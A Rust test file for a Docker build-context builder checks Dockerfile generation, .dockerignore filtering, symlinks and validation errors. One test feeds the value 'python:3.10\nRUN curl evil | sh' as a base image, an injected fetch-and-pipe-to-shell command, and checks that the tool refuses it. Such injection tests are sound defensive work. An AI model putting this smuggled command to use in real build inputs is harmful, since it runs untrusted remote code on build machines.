//! The build context as Docker receives it: the tar's entries and the Dockerfile's path.

use keynet_train::context::{BuildContext, DockerfileSource};
use keynet_train::error::Error;
use std::collections::BTreeMap;
use std::fs;
use std::io::Read;
use std::path::Path;
use tempfile::TempDir;

/// A context folder with `files` (path → content) in it.
fn folder(files: &[(&str, &str)]) -> TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    for (path, content) in files {
        let path = dir.path().join(path);
        fs::create_dir_all(path.parent().expect("has a parent")).expect("mkdir");
        fs::write(path, content).expect("write");
    }
    dir
}

fn generated() -> DockerfileSource {
    DockerfileSource::Generated {
        base_image: "python:3.10-slim".into(),
    }
}

/// The tar's entries: path → content (`dir/` for folders, `-> target` for symlinks).
fn entries(context: &BuildContext) -> BTreeMap<String, String> {
    let mut tar = Vec::new();
    context.write_tar(&mut tar).expect("writes the tar");
    let mut archive = tar::Archive::new(tar.as_slice());
    let mut entries = BTreeMap::new();
    for entry in archive.entries().expect("a tar") {
        let mut entry = entry.expect("an entry");
        let path = entry.path().expect("a path").display().to_string();
        assert!(!path.starts_with('/'), "{path} is absolute");
        let value = match entry.header().entry_type() {
            tar::EntryType::Directory => "dir/".to_string(),
            tar::EntryType::Symlink => format!(
                "-> {}",
                entry.link_name().expect("link").expect("target").display()
            ),
            _ => {
                let mut content = String::new();
                entry.read_to_string(&mut content).expect("utf-8 content");
                content
            }
        };
        assert!(entries.insert(path, value).is_none(), "duplicate entry");
    }
    entries
}

fn names(context: &BuildContext) -> Vec<String> {
    entries(context).into_keys().collect()
}

fn validation(result: keynet_train::error::Result<BuildContext>) -> String {
    match result {
        Err(Error::Validation(message)) => message,
        other => panic!("expected a validation error, got {other:?}"),
    }
}

#[test]
fn generated_dockerfile_without_requirements() {
    let dir = folder(&[("train.py", "print(1)\n"), ("utils/io.py", "")]);
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    let dockerfile = "FROM python:3.10-slim\n\
                      WORKDIR /app\n\
                      COPY . .\n\
                      ENTRYPOINT [\"python\", \"train.py\"]\n";
    assert_eq!(context.generated_dockerfile(), Some(dockerfile));
    assert_eq!(context.dockerfile_path(), ".keynet-train.Dockerfile");
    assert_eq!(context.file_count(), 3);
    let entries = entries(&context);
    assert_eq!(
        entries.keys().collect::<Vec<_>>(),
        [
            ".keynet-train.Dockerfile",
            "train.py",
            "utils",
            "utils/io.py"
        ]
    );
    assert_eq!(entries[".keynet-train.Dockerfile"], dockerfile);
    assert_eq!(entries["train.py"], "print(1)\n");
    assert_eq!(entries["utils"], "dir/");
}

#[test]
fn requirements_are_installed_in_their_own_layer() {
    let dir = folder(&[("requirements.txt", "torch\n"), ("src/trainer/main.py", "")]);
    let context = BuildContext::prepare(
        dir.path(),
        &dir.path().join("src/trainer/main.py"),
        DockerfileSource::Generated {
            base_image: "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime".into(),
        },
    )
    .expect("prepared");
    assert_eq!(
        context.generated_dockerfile(),
        Some(
            "FROM pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime\n\
             WORKDIR /app\n\
             COPY requirements.txt .\n\
             RUN pip install --no-cache-dir -r requirements.txt\n\
             COPY . .\n\
             ENTRYPOINT [\"python\", \"src/trainer/main.py\"]\n"
        )
    );
}

#[test]
fn ignored_requirements_are_not_installed() {
    let dir = folder(&[
        ("requirements.txt", "torch\n"),
        ("train.py", ""),
        (".dockerignore", "requirements.txt\n"),
    ]);
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    let dockerfile = context.generated_dockerfile().expect("generated");
    assert!(!dockerfile.contains("requirements"), "{dockerfile}");
}

#[test]
fn the_generated_dockerfile_never_replaces_a_file_of_the_context() {
    let dir = folder(&[
        ("train.py", ""),
        (".keynet-train.Dockerfile", "mine"),
        (".keynet-train.1.Dockerfile", "mine too"),
    ]);
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    assert_eq!(context.dockerfile_path(), ".keynet-train.2.Dockerfile");
    let entries = entries(&context);
    assert_eq!(entries[".keynet-train.Dockerfile"], "mine");
    assert!(entries[".keynet-train.2.Dockerfile"].starts_with("FROM "));
    // Nothing was written to the author's folder.
    assert!(!dir.path().join(".keynet-train.2.Dockerfile").exists());
}

#[test]
fn a_dockerfile_inside_the_context_is_sent_as_it_is() {
    let dir = folder(&[
        ("train.py", ""),
        ("docker/Dockerfile", "FROM scratch\n"),
        ("docker/other", ""),
        (".dockerignore", "docker/\n"),
    ]);
    let context = BuildContext::prepare(
        dir.path(),
        &dir.path().join("train.py"),
        DockerfileSource::File(dir.path().join("docker/Dockerfile")),
    )
    .expect("prepared");
    assert_eq!(context.dockerfile_path(), "docker/Dockerfile");
    assert_eq!(context.generated_dockerfile(), None);
    // Ignored, but the Dockerfile and .dockerignore are sent anyway, as Docker does.
    assert_eq!(
        names(&context),
        [".dockerignore", "docker/Dockerfile", "train.py"]
    );
    assert_eq!(context.file_count(), 3);
}

#[test]
fn a_dockerfile_outside_the_context_is_added() {
    let dir = folder(&[("ctx/train.py", ""), ("Dockerfile.gpu", "FROM cuda\n")]);
    let context = BuildContext::prepare(
        &dir.path().join("ctx"),
        &dir.path().join("ctx/train.py"),
        DockerfileSource::File(dir.path().join("Dockerfile.gpu")),
    )
    .expect("prepared");
    assert_eq!(context.dockerfile_path(), ".keynet-train.Dockerfile");
    let entries = entries(&context);
    assert_eq!(entries[".keynet-train.Dockerfile"], "FROM cuda\n");
    assert_eq!(entries.len(), 2);
    assert_eq!(context.file_count(), 2);
}

#[test]
fn a_missing_dockerfile_is_named() {
    let dir = folder(&[("train.py", "")]);
    let missing = dir.path().join("Dockerfile");
    let message = validation(BuildContext::prepare(
        dir.path(),
        &dir.path().join("train.py"),
        DockerfileSource::File(missing.clone()),
    ));
    assert_eq!(
        message,
        format!("the Dockerfile {} does not exist", missing.display())
    );
}

#[test]
fn the_entrypoint_must_be_a_file_of_the_context() {
    let dir = folder(&[("ctx/data.csv", ""), ("train.py", "")]);
    let outside = dir.path().join("train.py");
    let message = validation(BuildContext::prepare(
        &dir.path().join("ctx"),
        &outside,
        generated(),
    ));
    assert!(
        message.starts_with(&format!(
            "the entrypoint {} is not inside the build context",
            outside.display()
        )),
        "{message}"
    );
    let message = validation(BuildContext::prepare(
        dir.path(),
        &dir.path().join("nope.py"),
        generated(),
    ));
    assert!(message.contains("nope.py does not exist"), "{message}");
    let message = validation(BuildContext::prepare(
        dir.path(),
        &dir.path().join("ctx"),
        generated(),
    ));
    assert!(message.ends_with("is not a file"), "{message}");
}

#[test]
fn an_ignored_entrypoint_cannot_run() {
    let dir = folder(&[("train.py", ""), (".dockerignore", "*.py\n")]);
    let message = validation(BuildContext::prepare(
        dir.path(),
        &dir.path().join("train.py"),
        generated(),
    ));
    assert!(
        message.ends_with("is excluded by the .dockerignore"),
        "{message}"
    );
}

#[test]
fn the_dockerignore_filters_the_tar() {
    let dir = folder(&[
        (
            ".dockerignore",
            "# build output\n/runs\n**/*.pyc\ndata/\n!data/keep.txt\n*.md\n!README.md\n",
        ),
        ("train.py", ""),
        ("README.md", ""),
        ("NOTES.md", ""),
        ("docs/guide.md", ""),
        ("model/__pycache__/net.cpython-310.pyc", ""),
        ("model/net.py", ""),
        ("data/train/0001.jpg", ""),
        ("data/keep.txt", "kept"),
        ("runs/exp1/weights.pt", ""),
        ("src/runs/keep.py", ""),
    ]);
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    assert_eq!(
        names(&context),
        [
            ".dockerignore",
            ".keynet-train.Dockerfile",
            "README.md",
            "data/keep.txt",
            "docs",
            "docs/guide.md",
            "model",
            "model/__pycache__",
            "model/net.py",
            "src",
            "src/runs",
            "src/runs/keep.py",
            "train.py",
        ]
    );
    assert_eq!(context.file_count(), 8);
}

#[test]
fn the_tar_does_not_depend_on_when_or_by_whom_files_were_written() {
    let dir = folder(&[("train.py", "x"), ("lib/a.py", "y")]);
    let prepare = || {
        let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
            .expect("prepared");
        let mut tar = Vec::new();
        context.write_tar(&mut tar).expect("tar");
        tar
    };
    let first = prepare();
    let file = fs::File::options()
        .write(true)
        .open(dir.path().join("train.py"))
        .expect("open");
    file.set_modified(std::time::SystemTime::UNIX_EPOCH)
        .expect("set mtime");
    assert_eq!(first, prepare());
}

#[cfg(unix)]
#[test]
fn symlinks_are_sent_as_symlinks() {
    let dir = folder(&[("train.py", ""), ("real/config.yaml", "a: 1\n")]);
    std::os::unix::fs::symlink("real/config.yaml", dir.path().join("config.yaml")).expect("link");
    std::os::unix::fs::symlink("/etc", dir.path().join("etc")).expect("link");
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    let entries = entries(&context);
    assert_eq!(entries["config.yaml"], "-> real/config.yaml");
    assert_eq!(entries["etc"], "-> /etc");
    assert!(!entries.keys().any(|name| name.starts_with("etc/")));
}

#[test]
fn a_file_that_cannot_be_read_is_named() {
    let dir = folder(&[("train.py", ""), ("weights.pt", "w")]);
    let context = BuildContext::prepare(dir.path(), &dir.path().join("train.py"), generated())
        .expect("prepared");
    // Gone between the walk and the tar (permissions would not stop root).
    let weights = dir.path().join("weights.pt");
    fs::remove_file(&weights).expect("remove");
    let error = context.write_tar(Vec::new()).expect_err("unreadable");
    assert!(matches!(error, Error::Io { .. }), "{error:?}");
    assert!(
        error.to_string().contains(&weights.display().to_string()),
        "{error}"
    );
}

#[test]
fn a_bad_base_image_is_refused() {
    let dir = folder(&[("train.py", "")]);
    for base_image in ["", "python:3.10\nRUN curl evil | sh"] {
        let message = validation(BuildContext::prepare(
            dir.path(),
            &dir.path().join("train.py"),
            DockerfileSource::Generated {
                base_image: base_image.into(),
            },
        ));
        assert!(message.ends_with("is not an image reference"), "{message}");
    }
}

#[test]
fn a_relative_entrypoint_is_relative_to_the_working_directory() {
    // The CLI is given paths as the author typed them; the working directory of the test
    // process is the crate's folder.
    let here = std::env::current_dir().expect("cwd");
    let context = BuildContext::prepare(
        Path::new("tests"),
        Path::new("tests/context.rs"),
        generated(),
    )
    .expect("prepared");
    assert!(
        context
            .generated_dockerfile()
            .expect("generated")
            .ends_with("ENTRYPOINT [\"python\", \"context.rs\"]\n")
    );
    assert!(here.join("tests/context.rs").is_file());
}
